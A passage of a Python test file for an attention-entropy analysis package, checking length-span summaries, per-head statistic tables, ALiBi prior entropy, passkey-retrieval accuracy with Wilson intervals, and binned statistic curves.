    notebooks use, in one vocabulary ([L/2, L), not 0.5L-L or [1L, 2L))."""
    from entropy_lens.results import in_l, span_label, spans_by_l, summary

    assert [in_l(p, 128) for p in (0, 64, 128, 256, 448, 500)] == ["0", "L/2", "L", "2L", "3.5L", "3.91L"]
    assert span_label((128, 1024), 128) == "[L, 8L)"
    spans = spans_by_l(1300, 100)  # 8L, then widths doubling: [8L, 10L), [10L, 13L) (partial)
    assert list(spans.values()) == [
        (0, 50),
        (50, 100),
        *((k * 100, k * 100 + 100) for k in range(1, 8)),
        (800, 1000),
        (1000, 1300),
    ]
    assert list(spans)[-2:] == ["[8L, 10L)", "[10L, 13L)"]
    assert list(spans_by_l(400, 100, start=50)) == ["[L/2, L)", "[L, 2L)", "[2L, 3L)", "[3L, 4L)"]
    result = make_result(np.arange(40, dtype=np.float32), train_len=10)
    rows = summary(result).splitlines()[1:]
    assert [r.split(")")[0] + ")" for r in rows] == list(spans_by_l(40, 10))
    assert float(rows[-1].split()[-1]) == pytest.approx(np.mean(np.arange(30, 40)))


def test_summary_shows_every_statistic_the_result_holds():
    """Beside entropy and loss (the table as it was), one column per further row statistic, named with its
    unit, holding its mean over heads and each span; a loss-only result says why it has no entropy."""
    from entropy_lens.results import spans_by_l, summary

    T, L = 40, 10
    rng = np.random.default_rng(0)
    result = make_result(np.arange(T, dtype=np.float32), entropy=rng.random((2, 3, T)), train_len=L)
    plain = summary(result)
    stats = {name: rng.random((2, 3, T)).astype(np.float32) for name in ("distance", "max_prob", "sink_mass")}
    result.stats = stats | {"distance_sq": stats["distance"] ** 2, "max_prob_sq": stats["max_prob"] ** 2}
    result.meta["first_keys"] = 3
    text = summary(result)
    assert text.startswith(plain + "\n\n")  # the entropy table unchanged
    block = text[len(plain) + 2 :].splitlines()
    assert block[0].split() == ["L", "=", "10", "sink_mass", "max_prob", "distance"]  # STATISTICS's order
    assert block[1].split() == ["probability", "probability", "tokens"]
    spans = spans_by_l(T, L)
    assert [row.split()[0] for row in block[2:]] == [label.split()[0] for label in spans]
    for row, (a, b) in zip(block[2:], spans.values()):
        values = [float(v) for v in row.split()[-3:]]
        want = [stats[n][:, :, a:b].mean() for n in ("sink_mass", "max_prob", "distance")]
        np.testing.assert_allclose(values, want, atol=5e-4)
    assert max(map(len, text.splitlines())) <= 100
    result.stats["first_mass"] = stats["max_prob"]
    assert summary(result).splitlines()[-1] == "first_mass: the mass on the first K = 3 keys"
    loss_only = summary(make_result(np.arange(T, dtype=np.float32), entropy=np.zeros((2, 0, T)), train_len=L))
    rows = loss_only.splitlines()
    assert "nan" not in loss_only and all("not recorded" in row for row in rows[1:-1])
    assert "--record none" in rows[-1] and "--record heads" in rows[-1]
    assert float(rows[-2].split()[-1]) == pytest.approx(np.mean(np.arange(30, 40)))  # the loss as before


def test_the_alibi_prior_entropy_is_the_geometric_distributions():
    """H_m(i) of p_d ∝ e^(−m d), d = 0..i: summed directly, ln(i + 1) at m = 0, the closed-form limit
    for long rows, and in [0, ln(i + 1)]."""
    from entropy_lens.analysis import alibi_prior_entropy

    slopes = [0.0, 2**-8, 0.05, 0.7, 3.0]
    h = alibi_prior_entropy(slopes, 3000)
    assert h.shape == (5, 3000)
    for row, m in enumerate(slopes):
        for i in (0, 1, 7, 250, 2999):
            d = np.arange(i + 1, dtype=np.float64)
            p = np.exp(-m * d) / np.exp(-m * d).sum()
            p = p[p > 0]  # e^(−m d) underflows far back for steep slopes
            assert h[row, i] == pytest.approx(-(p * np.log(p)).sum(), abs=1e-10)
    np.testing.assert_allclose(h[0], np.log(np.arange(1, 3001)), atol=1e-12)
    m = 0.7
    limit = -np.log1p(-np.exp(-m)) + m * np.exp(-m) / -np.expm1(-m)
    assert h[3, -1] == pytest.approx(limit, abs=1e-12)
    assert np.all(h >= 0) and np.all(h <= np.log(np.arange(1, 3001)) + 1e-12)
    with pytest.raises(ValueError, match=">= 0"):
        alibi_prior_entropy([-0.1], 4)


def test_passkey_accuracy_beside_the_retrieval_heads_mass():
    """Wilson intervals (textbook values) and, per length, accuracy beside the mass of the head that
    looks at the key most within the context (chosen there, followed beyond it)."""
    from entropy_lens.analysis import passkey_by_length, wilson_interval

    for (k, n), (low, high) in {
        (0, 10): (0.0, 0.2775),
        (10, 10): (0.7225, 1.0),
        (5, 10): (0.2366, 0.7634),
    }.items():
        got = wilson_interval(k, n)
        assert got[0] == pytest.approx(low, abs=1e-4) and got[1] == pytest.approx(high, abs=1e-4)
    assert all(np.isnan(wilson_interval(0, 0)))

    def trial(correct, mass_of_1_0, entropy):
        mass = [[0.1, 0.05], [mass_of_1_0, 0.2]]  # layer 1, head 0 is the retrieval head
        return {"correct": correct, "needle_mass": mass, "entropy": [[entropy] * 2] * 2}

    record = {
        "results": [
            {"length": 64, "per_trial": [trial(True, 0.9, 2.0), trial(True, 0.7, 2.2)]},
            {"length": 128, "per_trial": [trial(False, 0.3, 3.0), trial(True, 0.5, 3.4)]},
        ]
    }
    table = passkey_by_length(record, 64)
    assert list(table.index) == [64, 128] and set(table["head"]) == {"1.0"}
    assert table.loc[64, "accuracy"] == 1.0 and table.loc[128, "accuracy"] == 0.5
    assert table.loc[128, "needle_mass"] == pytest.approx(0.4) and table.loc[64, "entropy"] == pytest.approx(
        2.1
    )
    half = 1.96 * np.std([0.3, 0.5], ddof=1) / np.sqrt(2)
    assert table.loc[128, "needle_mass_high"] == pytest.approx(0.4 + half)
    assert table.loc[128, "accuracy_low"] == pytest.approx(wilson_interval(1, 2)[0])
    with pytest.raises(EntropyLensError, match="retrieval head is undefined"):
        passkey_by_length(record, 32)


def test_binned_statistics_keep_every_span_mean_of_whole_bins(tmp_path):
    """StatCurves: a bin is the count-weighted mean of its positions, so a span of whole bins has the full
    scan's mean; the squares are dropped; the file round-trips and a damaged one says how to recover."""
    from entropy_lens.analysis import StatCurves

    rng = np.random.default_rng(0)
    r = make_result(rng.normal(3, 0.1, 100), entropy=rng.uniform(0, 3, (2, 3, 100)))
    r.count[:] = 4
    r.count[-3:] = 2  # fewer windows reach the last positions: weighted, not plainly averaged
    r.stats = {"max_prob": rng.uniform(0, 1, (2, 3, 100)).astype(np.float32)}
    r.stats["max_prob_sq"] = r.stats["max_prob"] ** 2
    r.meta["stats"] = {"max_prob": "probability"}
    c = StatCurves.of(r, width=8)
    assert (c.bins, c.width, c.length) == (13, 8, 100) and set(c.values) == {"entropy", "max_prob"}
    assert c.units == {"entropy": "nats", "max_prob": "probability"} and c.count[-1] == 4 + 3 * 2
    np.testing.assert_allclose(
        c.span("max_prob", 16, 48), r.stats["max_prob"][:, :, 16:48].mean(axis=2), rtol=1e-6
    )
    w = r.count[88:100].astype(np.float64)
    full = (r.entropy[:, :, 88:100] * w).sum(axis=2) / w.sum()
    np.testing.assert_allclose(c.span("entropy", 88, 100), full, rtol=1e-6)  # the partial last bin too
    np.testing.assert_allclose(c.mean("entropy")[0], r.entropy[:, :, :8].mean(), rtol=1e-6)
    assert c.positions[0] == 3.5 and c.positions[-1] == 97.5
    c.save(tmp_path / "c.npz")
    again = StatCurves.load(tmp_path / "c.npz")
    assert again.meta == c.meta and np.array_equal(again.values["max_prob"], c.values["max_prob"])
    (tmp_path / "bad.npz").write_bytes(b"not a zip")
    with pytest.raises(EntropyLensError, match="delete it to compute it again"):
        StatCurves.load(tmp_path / "bad.npz")
    with pytest.raises(EntropyLensError, match="rescan with --stats all"):
        c.get("distance")
    with pytest.raises(EntropyLensError, match="not within"):
        c.span("entropy", 0, 101)
